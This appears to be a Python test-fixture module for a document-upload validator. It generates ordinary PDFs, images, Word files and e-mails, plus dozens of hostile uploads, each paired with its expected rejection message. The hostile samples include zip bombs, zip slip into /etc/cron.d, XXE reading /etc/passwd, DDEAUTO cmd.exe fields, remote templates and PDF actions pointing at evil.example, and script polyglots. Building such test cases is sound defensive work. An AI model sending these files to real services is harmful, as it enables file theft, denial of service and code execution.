"""Files for the tests, made here: good ones of every kind, and ones that would hurt somebody.

None lies in the repository, so that no virus scanner takes it for an attack.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage

import docx
import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

WHERE = "GPS 52.6369N 1.1398W"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# Good files


def pdf(pages: int = 1) -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    return written(writer)


def written(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (8, 6), where: str = WHERE) -> bytes:
    """A picture with the place, the camera and a comment written into it."""
    image = Image.new("RGB", size, (12, 130, 120))
    exif = Image.Exif()
    exif[0x010E], exif[0x0110] = where, "Telephone 7"
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 38.0, 12.84), 3: "W", 4: (1.0, 8.0, 23.28), 29: where})
    out = io.BytesIO()
    image.save(out, kind, exif=exif, comment=where.encode())
    return out.getvalue()


def word(text: str = "A paper about nobody.", *, image: bytes | None = None) -> bytes:
    made = docx.Document()
    made.core_properties.author = "An author nobody needs"
    made.add_paragraph(text)
    if image is not None:
        made.add_picture(io.BytesIO(image))
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def mail(*attachments: tuple[str, bytes], html: str = "") -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "sender@example.org", "school@example.org"
    message["Subject"], message["Date"] = "Supporting papers", "Mon, 23 Nov 2026 09:00:00 +0000"
    message.set_content("Please find the papers.")
    if html:
        message.add_alternative(html, subtype="html")
    for name, content in attachments:
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


# Files that would hurt somebody


def changed(content: bytes, *, replace: dict[str, tuple[bytes, bytes]] | None = None, **add: bytes) -> bytes:
    """A Word file with words in its parts replaced, and parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name)
            if replace and name in replace:
                assert replace[name][0] in part
                part = part.replace(*replace[name])
            new.writestr(name, part)
        for name, part in add.items():
            new.writestr(name, part)
    return out.getvalue()


def related(role: str, target: str, *, external: bool = True) -> bytes:
    """A Word file with one more relationship."""
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="rId99" Type="{OFFICE}/{role}" Target="{target}"{mode}/></Relationships>'
    return changed(word(), replace={RELS: (b"</Relationships>", line.encode())})


def archive(*parts: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts:
            made.writestr(name, part)
    return out.getvalue()


def bomb() -> bytes:
    """A Word file of some 60 KB that unpacks to 64 MB."""
    return changed(word(), **{"word/theme/big.xml": b"<a>" + b" " * 64_000_000 + b"</a>"})


def many_parts(count: int = 200_000) -> bytes:
    """An archive that lists one part so often that reading the list alone takes long; some 10 MB."""
    name = b"x"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name
    listed = entry * count
    shown = count & 0xFFFF
    end = struct.pack("<4s2H2H2LH", b"PK\x05\x06", 0, 0, shown, shown, len(listed), len(local), 0)
    return local + listed + end


def slip() -> bytes:
    return changed(word(), **{"../../../../etc/cron.d/waymark": b"* * * * * root true"})


def link() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as made:
        info = zipfile.ZipInfo("word/media/picture.png")
        info.external_attr = 0o120777 << 16
        made.writestr(info, "/etc/passwd")
    return out.getvalue()


def with_entity() -> bytes:
    declared = b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document '
    return changed(word(), replace={"word/document.xml": (b"<w:document ", declared)})


def with_laughs() -> bytes:
    lines = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha") for n in range(9))
    return changed(
        word(), replace={"word/document.xml": (b"<w:document ", b"<!DOCTYPE w [" + lines + b"]><w:document ")}
    )


def with_macro() -> bytes:
    return changed(word(), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()"})


def with_field(instruction: str) -> bytes:
    """The instruction broken over two runs, as Word itself does."""
    half = len(instruction) // 2
    runs = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction[:half]}</w:instrText></w:r><w:r><w:instrText>{instruction[half:]}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
    )
    return changed(word(), replace={"word/document.xml": (b"<w:sectPr", runs.encode())})


def pdf_with(**catalogue: object) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    for key, value in catalogue.items():
        writer._root_object[NameObject(f"/{key}")] = value
    return written(writer)


def action(kind: str, **more: str) -> DictionaryObject:
    said = {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **said})


def pdf_with_script() -> bytes:
    return pdf_with(OpenAction=action("JavaScript", JS="app.alert('here')"))


def pdf_with_script_in_a_picture_of_a_button() -> bytes:
    """The script hangs from an annotation of the page, not from the catalogue."""
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(200, 200)
    from pypdf.generic import ArrayObject

    widget = DictionaryObject(
        {NameObject("/Subtype"): NameObject("/Widget"), NameObject("/A"): action("JavaScript", JS="x()")}
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(widget)])
    return written(writer)


def pdf_with_file() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("inside.exe", b"MZ program")
    return written(writer)


def locked_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    return written(writer)


def pdf_with_page() -> bytes:
    """A PDF that a browser, asked to, would take for a page with a script."""
    return pdf().replace(b"\n", b"\n%<html><body><script>alert(1)</script>\n", 1)


def big_png(wide: int = 30_000, high: int = 30_000) -> bytes:
    """A PNG of a few hundred bytes that says it has 900 million points."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))

    head = struct.pack(">LLBBBBB", wide, high, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def nested_mail(depth: int = 12) -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"] = "a@example.org", "innermost"
    message.set_content("words")
    for _ in range(depth):
        outer = EmailMessage()
        outer["From"], outer["Subject"] = "a@example.org", "outer"
        outer.set_content("words")
        outer.add_attachment(message)
        message = outer
    return message.as_bytes()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512


def ole(stream: str) -> bytes:
    return OLE + stream.encode("utf-16-le") + b"\x00" * 64


def every_hostile_file() -> dict[str, tuple[str, bytes, str]]:
    """By name of the attack: the name of the file, its bytes, and a part of the sentence that says no."""
    jpeg = picture()
    return {
        "nothing": ("a.pdf", b"", "empty"),
        "EICAR": ("eicar.pdf", EICAR, "test file for virus scanners"),
        "EICAR in an e-mail": ("m.eml", mail(("eicar.txt", EICAR)), "The attachment eicar.txt of this e-mail"),
        "zip": ("a.docx", archive(("a.txt", b"words")), "This is a ZIP file"),
        "zip bomb": ("a.docx", bomb(), "unpack to far more"),
        "zip of a hundred thousand parts": ("a.docx", many_parts(), "unpack to far more"),
        "zip slip": ("a.docx", slip(), "not put together as Word does it"),
        "zip with a link": ("a.docx", link(), "not put together as Word does it"),
        "zip in zip": ("a.docx", changed(word(), **{"word/inner.zip": archive(("a", b"b"))}), "another file inside"),
        "zip with words after its end": ("a.docx", word() + b"<html>", "not put together as Word does it"),
        "zip cut off": ("a.docx", word()[:-200], "broken or was cut off"),
        "XXE": ("a.docx", with_entity(), "fetches or repeats"),
        "billion laughs": ("a.docx", with_laughs(), "fetches or repeats"),
        "macro": ("a.docx", with_macro(), "a macro"),
        "macro by its ending": ("a.docm", word(), "ends in .docm"),
        "remote template": ("a.docx", related("attachedTemplate", "https://evil.example/a.dotm"), "fetches a template"),
        "remote picture": ("a.docx", related("image", "https://evil.example/a.png"), "fetches something"),
        "link to a share": ("a.docx", related("hyperlink", "file://evil.example/a"), "a link to a place"),
        "object": ("a.docx", related("oleObject", "embeddings/a.bin", external=False), "another file inside"),
        "web page inside": ("a.docx", related("aFChunk", "a.xht", external=False), "another file inside"),
        "DDE": ("a.docx", with_field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "a field that fetches"),
        "include": ("a.docx", with_field('INCLUDEPICTURE "https://evil.example/a.png"'), "a field that fetches"),
        "Excel": ("a.docx", _spreadsheet(), "This is an Excel file"),
        "old Word": ("a.doc", ole("WordDocument"), "Word file of the old kind"),
        "Word under a password": ("a.docx", ole("EncryptedPackage"), "opens only with a password"),
        "Outlook": ("a.msg", ole("__properties_version1.0"), "This is an Outlook message"),
        "script in a PDF": ("a.pdf", pdf_with_script(), "a script that runs"),
        "script in a button": ("a.pdf", pdf_with_script_in_a_picture_of_a_button(), "a script that runs"),
        "launch": ("a.pdf", pdf_with(OpenAction=action("Launch", F="calc.exe")), "an instruction to start"),
        "send": ("a.pdf", pdf_with(OpenAction=action("SubmitForm", F="https://evil.example/")), "start or send"),
        "file in a PDF": ("a.pdf", pdf_with_file(), "another file inside it"),
        "locked PDF": ("a.pdf", locked_pdf(), "locked by a password"),
        "PDF that is a page": ("a.pdf", pdf_with_page(), "also something else"),
        "PDF that is an archive": ("a.pdf", pdf() + archive(("a", b"b")), "also something else"),
        "page before a PDF": ("a.pdf", b"<html><script>alert(1)</script>" + pdf(), "whatever its name says"),
        "PDF cut off": ("a.pdf", pdf()[:200], "broken or was cut off"),
        "PDF of nothing": ("a.pdf", b"%PDF-1.7\n%%EOF\n", "broken or was cut off"),
        "PDF of 501 pages": ("a.pdf", pdf(501), "501 pages"),
        "SVG": ("a.png", SVG, "This kind of picture"),
        "SVG by its name": ("a.svg", b"<?xml version='1.0'?>" + SVG, "This kind of picture"),
        "GIF with a script": ("a.gif", b"GIF89a/*" + b"\x00" * 40 + b"*/=1;alert(1)", "This kind of picture"),
        "HEIC": ("IMG_0001.HEIC", HEIC, "Apple's HEIC form"),
        "PNG bomb": ("a.png", big_png(), "30,000 by 30,000 points"),
        "picture cut off": ("a.jpg", jpeg[: len(jpeg) // 2], "broken"),
        "PNG cut off": ("a.png", picture("PNG")[:60], "broken"),
        "wrong ending": ("a.pdf", jpeg, "but its name ends in .pdf"),
        "program": ("a.pdf", b"MZ\x90\x00program", "whatever its name says"),
        "web page": ("a.html", b"<html><script>alert(1)</script></html>", "whatever its name says"),
        "text": ("a.txt", b"just words", "whatever its name says"),
        "program in an e-mail": ("m.eml", mail(("run.exe", b"MZ\x90\x00")), "The attachment run.exe"),
        "page in an e-mail": ("m.eml", _mail_with_page(), "The attachment page.html"),
        "e-mails within e-mails": ("m.eml", nested_mail(), "e-mails within e-mails"),
        "name of 300 letters": ("a" * 296 + ".pdf", pdf(), "too long: shorten it"),
        "name that reads backwards": ("photo\u202efdp.exe", pdf(), "its name ends in .exe|letters that cannot be seen"),
    }


def _spreadsheet() -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet().write(0, 0, "words")
    book.close()
    return out.getvalue()


def _mail_with_page() -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"] = "a@example.org", "page"
    message.set_content("words")
    message.add_attachment("<script>alert(1)</script>", subtype="html", filename="page.html")
    return message.as_bytes()
